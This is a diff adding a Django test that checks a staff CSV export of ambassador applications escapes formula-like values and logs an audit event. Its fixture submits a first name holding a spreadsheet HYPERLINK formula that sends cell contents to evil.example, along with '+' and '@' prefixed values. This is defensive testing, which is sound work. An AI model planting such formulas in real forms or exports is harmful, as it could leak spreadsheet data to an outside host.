@@ -1,9 +1,12 @@
 import csv
+import datetime
 import io
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 
+from accounts.models import AuditEvent
 from ambassadors import selectors
 from ambassadors.models import AvailabilitySlot, Status, StatusChange
 from ambassadors.tests.factories import ActiveAmbassadorFactory, AmbassadorProfileFactory
@@ -62,6 +65,26 @@ def test_csv_export_follows_the_filters(client, staff_user, crowd):
     AvailabilitySlot.objects.create(profile=crowd[0], weekday=1, part="morning")
     rows = csv_rows(client.get(reverse("ambassadors:staff_export"), {"status": "active"}))
     assert rows[1][10] == "maandag dinsdag donderdag"  # in weekday order, as the list shows them
+
+
+def test_csv_export_shows_formulas_as_text_and_is_recorded(client, staff_user, django_capture_on_commit_callbacks):
+    """A name typed into the public application lands in the staff's spreadsheet: it must never run there."""
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(reverse("ambassadors:apply"), {
+            "first_name": '=HYPERLINK("http://evil.example/?x="&C2,"Klik")', "last_name": "+31 6", "email": "x@example.nl",
+            "phone": "0612345678", "postcode": "3511ab", "sector": "finance", "employer": "@Werkgever",
+            "employer_release": "yes", "motivations": ["social"], "preferred_tasks": ["classroom"],
+            "school_types": ["vo"], "start_date": (timezone.localdate() + datetime.timedelta(days=30)).isoformat(),
+            "commitment": "school_year", "day_amount": "full", "weekdays": ["2"], "max_distance_km": "12",
+            "heard_via": "employer", "consent": "on"})
+    client.force_login(staff_user)
+    response = client.get(reverse("ambassadors:staff_export"), {"q": "x@example.nl"})
+    [row] = [r for r in csv_rows(response) if r[2] == "x@example.nl"]
+    assert row[0] == "'" + '=HYPERLINK("http://evil.example/?x="&C2,"Klik")'
+    assert row[1] == "'+31 6" and row[7] == "'@Werkgever"
+    event = AuditEvent.objects.get(action="ambassadors.exported")
+    assert event.actor == staff_user and event.details["rows"] == 1
+    assert event.details["filters"] == {"q": "…"}  # what was typed into the search is not kept
 
 
 def test_channel_report_counts_a_plan_to_move_apart_from_a_move(client, staff_user):
